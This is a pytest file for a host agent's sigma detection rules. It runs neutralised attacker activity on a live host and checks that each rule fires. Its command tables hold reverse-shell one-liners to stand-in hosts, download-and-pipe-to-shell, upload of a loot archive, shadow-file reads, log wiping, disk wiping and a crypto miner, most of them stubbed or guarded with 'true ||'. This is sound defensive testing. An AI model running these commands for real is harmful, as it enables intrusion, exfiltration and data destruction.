"""Each of the sigma plugin's own rules fires on the real activity it is about.

One real host runs the live sensors (the syscall sensor for execs and connections, fanotify for
files) with the sigma plugin and its own rules only. Every case below is done for real, once,
and each rule's test then looks for its finding about its case. The activity is made harmless
without making it less real to the sensors:

- a tool that would change the machine (useradd, chmod, iptables, shutdown) is a stand-in: a
  copy of ``true`` under the tool's name, run with the arguments an attacker would give it, so
  the kernel reports exactly that exec;
- a shell one-liner that would do harm is guarded with ``true ||``: the shell's own command
  line is what the rule reads;
- files are written where persistence lives (/etc/cron.d, /etc/systemd/system, /etc/sudoers.d,
  ...), with a comment for content, under a name of the test's, and removed at once; those in a
  home folder go to a home of the test's.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from agent_host.protocol import Finding
from agent_host.sources.live import audit
from agent_host.sources.live.fanotify_sensor import fanotify_unavailable
from tests.helpers import BackgroundHost, read_findings

REPO = Path(__file__).resolve().parents[2]
RULES = REPO / "agent_host" / "plugins" / "sigma" / "rules"
TAG = f"agent-host-test-{os.getpid()}"

_why = ("needs root" if os.geteuid() else "") or audit.unavailable() or fanotify_unavailable()
pytestmark = [
    pytest.mark.skipif(bool(_why), reason=f"live sensors: {_why}"),
    pytest.mark.usefixtures("audit_lock"),
]

#: rule (its file's stem after ``_lnx_agent_host_``) -> a stand-in tool and its arguments.
STANDINS = {
    "crontab_install": "crontab ./jobs",
    "systemctl_enable": "systemctl enable backdoor.service",
    "systemd_run_timer": "systemd-run --on-active=60 /bin/true",
    "useradd": "useradd -m tester",
    "usermod_privileged_group": "usermod -aG sudo tester",
    "passwd_root": "passwd root",
    "kernel_module_load": "insmod ./rootkit.ko",
    "chmod_setuid": "chmod u+s ./implant",
    "chmod_setgid": "chmod g+s ./implant",
    "setcap_interpreter": "setcap cap_setuid+ep ./python3",
    "find_suid": "find / -perm -4000 -type f",
    "nsenter_pid1": "nsenter -t 1 -m -u -n -i sh",
    "docker_host_mount": "docker run -v /:/host alpine",
    "history_file_removed": "rm -f /root/.bash_history",
    "history_to_dev_null": "ln -sf /dev/null /root/.bash_history",
    "log_file_removed": "rm -f /var/log/auth.log",
    "log_file_truncated": "truncate -s 0 /var/log/syslog",
    "journal_vacuum": "journalctl --vacuum-time=1s",
    "shred_file": "shred -u ./secrets",
    "timestomp": "touch -r /etc/passwd ./implant",
    "hidden_folder_tmp": "mkdir -p /tmp/.cache-x",
    "chattr_immutable_set": "chattr +i ./implant",
    "chmod_world_writable_etc": "chmod 777 /etc/shadow",
    "auditd_disabled": "systemctl stop auditd",
    "security_service_stopped": "systemctl stop falco",
    "selinux_disabled": "setenforce 0",
    "firewall_flushed": "iptables -F",
    "netcat_exec": "nc -e /bin/sh 192.0.2.1 4444",
    "socat_exec": "socat tcp:192.0.2.1:4444 exec:/bin/sh",
    "download_to_tmp": "curl -o /tmp/payload https://example.org/x",
    "account_discovery": "cat /etc/passwd",
    "owner_discovery": "whoami",
    "system_info_discovery": "uname -a",
    "network_config_discovery": "ip addr",
    "network_connections_discovery": "ss -tunap",
    "process_discovery": "ps aux",
    "group_discovery": "groups",
    "service_discovery": "systemctl list-units --type=service",
    "security_software_discovery": "pgrep -a falcon",
    "network_scan": "nmap -sS 192.0.2.0/24",
    "shadow_read": "cat /etc/shadow",
    "private_key_search": "find / -name id_rsa",
    "password_grep": "grep -r password /etc",
    "process_memory_dump": "gcore 1",
    "password_cracker": "john hashes.txt",
    "sniffer": "tcpdump -i any",
    "ptrace_attach": "gdb -p 1",
    "archive_sensitive": "tar czf /tmp/loot.tgz /etc",
    "upload_file": "curl -T ./loot.tgz https://example.org/",
    "ssh_tunnel": "ssh -D 1080 user@example.org",
    "tunnel_tool": "chisel client example.org R:socks",
    "screen_capture": "scrot shot.png",
    "keylogger": "logkeys --start",
    "disk_wipe": "dd if=/dev/zero of=/dev/sdz bs=1M",
    "file_encryption_tool": "openssl enc -aes-256-cbc -in data -out data.enc",
    "system_shutdown": "shutdown -h now",
    "miner": "xmrig -o stratum+tcp://pool.example.org:3333",
    "account_locked": "passwd -l tester",
    "service_stop_mass": "systemctl stop mysql",
}

#: rule -> a real shell command line (run by ``sh -c``; $S stand-ins, $T scratch, $H a home).
SHELL = {
    "history_disabled": "bash -c 'unset HISTFILE; true'",
    "history_cleared": "bash -c 'history -c'",
    "base64_to_shell": "bash -c 'echo dHJ1ZQo= | base64 -d | sh'",
    "python_exec_b64": f"{sys.executable} -c \"import base64; exec(base64.b64decode('cGFzcw=='))\"",
    "python_pty_shell": f"{sys.executable} -c \"import socket, pty; 0 and pty.spawn('/bin/sh')\"",
    "fifo_shell": "bash -c 'true || (mkfifo /tmp/f; nc 192.0.2.1 4444 < /tmp/f | sh > /tmp/f)'",
    "download_pipe_shell": "bash -c 'true || curl -s https://example.org/i.sh | sh'",
    "masquerade_kernel_thread": "bash -c 'exec -a \"[kworker/0:1]\" $S/sleeper'",
    "masquerade_system_name_tmp": "$T/sshd",
    "web_server_spawns_shell": "$S/nginx -c '$S/id; true'",  # two commands: it forks
    "memfd_exec": (
        f"{sys.executable} -c \"import os; fd = os.memfd_create('x'); "
        "os.write(fd, open('/bin/true', 'rb').read()); "
        "os.execv(f'/proc/self/fd/{fd}', ['x'])\""
    ),
    "deleted_exe": (
        f"cp /bin/true $T/gone && {sys.executable} -c \"import os; fd = os.open('$T/gone', "
        "os.O_RDONLY); os.unlink('$T/gone'); os.execv(f'/proc/self/fd/{fd}', ['gone'])\""
    ),
    "shell_connects_out": "bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT'",
    "temp_program_connects_out": "$T/bash -c 'exec 3<>/dev/tcp/127.0.0.1/$PORT'",
}

#: rule -> a file written (and removed at once) where that kind of persistence lives.
FILES = {
    "cron_file_write": f"/etc/cron.d/{TAG}",
    "at_job_file": f"/var/spool/cron/atjobs/{TAG}",
    "systemd_unit_write": f"/etc/systemd/system/{TAG}.service",
    "systemd_user_unit_write": f"$H/.config/systemd/user/{TAG}.service",
    "systemd_timer_write": f"/etc/systemd/system/{TAG}.timer",
    "rc_script_write": f"/etc/init.d/{TAG}",
    "shell_profile_write": "$H/.bashrc",
    "ssh_authorized_keys_write": "$H/.ssh/authorized_keys",
    "sshd_config_write": f"/etc/ssh/sshd_config.d/{TAG}.conf",
    "pam_config_write": f"/etc/pam.d/{TAG}",
    "ld_so_conf_write": f"/etc/ld.so.conf.d/{TAG}.conf",
    "motd_write": f"/etc/update-motd.d/99-{TAG}",
    "udev_rule_write": f"/etc/udev/rules.d/99-{TAG}.rules",
    "git_hook_write": "$T/repo/.git/hooks/pre-commit",
    "sudoers_write": f"/etc/sudoers.d/{TAG}",
    "hidden_file_shm": f"/dev/shm/.{TAG}",
}

CASES = sorted([*STANDINS, *SHELL, *FILES])


def rule_file(stem: str) -> Path:
    (path,) = RULES.glob(f"*_lnx_agent_host_{stem}.yml")
    return path


def rule_id(stem: str) -> str:
    return str(yaml.safe_load(rule_file(stem).read_text())["id"])


def _write(path: str, created: list[Path]) -> None:
    """Write ``path`` with a comment, by a process of its own (the host leaves out its own
    writes), making the folders it needs; every folder made is listed for removal."""
    target = Path(path)
    missing = [p for p in reversed(target.parents) if not p.exists()]
    created.extend(reversed(missing))
    subprocess.run(
        ["sh", "-c", f'mkdir -p "{target.parent}" && echo "# {TAG}" > "{target}"'], check=True
    )
    target.unlink()


@pytest.fixture(scope="module")
def live() -> Iterator[dict[str, list[Finding]]]:
    """Every case done once beside a real host: its findings by rule id."""
    work = Path(tempfile.mkdtemp(prefix="agent-host-rules-"))
    stand, scratch, home = work / "standins", work / "scratch", work / "home"
    for folder in (stand, scratch, home, work / "plugins"):
        folder.mkdir()
    (work / "plugins" / "sigma").symlink_to(RULES.parent)
    for tool in {line.split()[0] for line in STANDINS.values()} | {"id", "sleeper"}:
        shutil.copy("/bin/true", stand / tool)
    shutil.copy("/bin/sh", stand / "nginx")
    shutil.copy("/bin/true", scratch / "sshd")
    shutil.copy("/bin/bash", scratch / "bash")
    listener = socket.create_server(("127.0.0.1", 0))
    env = {
        **os.environ,
        "S": str(stand),
        "T": str(scratch),
        "H": str(home),
        "PORT": str(listener.getsockname()[1]),
    }
    host = BackgroundHost(
        [
            *("run", "--sensors", "process,file,network", "--plugins", str(work / "plugins")),
            *("--watch", "/etc", "--watch", "/var/spool", "--watch", "/dev/shm"),
            *("--watch", str(work), "--findings", "f.jsonl", "--quiet"),
        ],
        work,
    )
    made: list[Path] = []
    try:
        host.wait_log("sensor started", count=2)
        for stem in CASES:
            if stem in STANDINS:
                command = f"$S/{STANDINS[stem]}"
            elif stem in SHELL:
                command = SHELL[stem]
            else:
                _write(FILES[stem].replace("$H", str(home)).replace("$T", str(scratch)), made)
                continue
            subprocess.run(["sh", "-c", command], cwd=stand, env=env, timeout=30, check=False)
        expected = {rule_id(stem) for stem in CASES}
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            fired = {f.rule for f in read_findings(work / "f.jsonl")}
            if expected <= fired:
                break
            time.sleep(0.2)
        code, _ = host.stop()
        assert code == 0, host.log_path.read_text()
        by_rule: dict[str, list[Finding]] = {}
        for finding in read_findings(work / "f.jsonl"):
            by_rule.setdefault(finding.rule, []).append(finding)
        yield by_rule
    finally:
        if host.proc.poll() is None:
            host.proc.kill()
            host.stop()
        listener.close()
        for folder in reversed(made):
            shutil.rmtree(folder, ignore_errors=True)
        shutil.rmtree(work, ignore_errors=True)


def test_there_are_enough_rules_over_enough_techniques() -> None:
    tags = [yaml.safe_load(rule_file(stem).read_text())["tags"] for stem in CASES]
    techniques = {t for rule in tags for t in rule if t.startswith("attack.t")}
    assert len(CASES) >= 60 and len(techniques) >= 30
    own = {p.name for p in RULES.glob("*_lnx_agent_host_*.yml")}
    tested = {rule_file(stem).name for stem in CASES}
    assert own - tested <= {  # tested by tests/detections/test_sigma.py on crafted events
        "file_event_lnx_agent_host_ld_so_preload.yml",
        "proc_creation_lnx_agent_host_ld_preload_cli.yml",
        "proc_creation_lnx_agent_host_reverse_shell_dev_tcp.yml",
    }


@pytest.mark.parametrize("stem", CASES)
def test_rule_fires_on_its_activity(stem: str, live: dict[str, list[Finding]]) -> None:
    findings = live.get(rule_id(stem), [])
    assert findings, f"{rule_file(stem).name} did not fire"
    if stem in FILES:
        name = os.path.basename(FILES[stem])
        assert any(f.attributes["TargetFilename"].endswith(name) for f in findings)
    if stem in STANDINS:
        args = STANDINS[stem].split(" ", 1)[1] if " " in STANDINS[stem] else ""
        assert any(f.attributes.get("CommandLine", "").endswith(args) for f in findings)
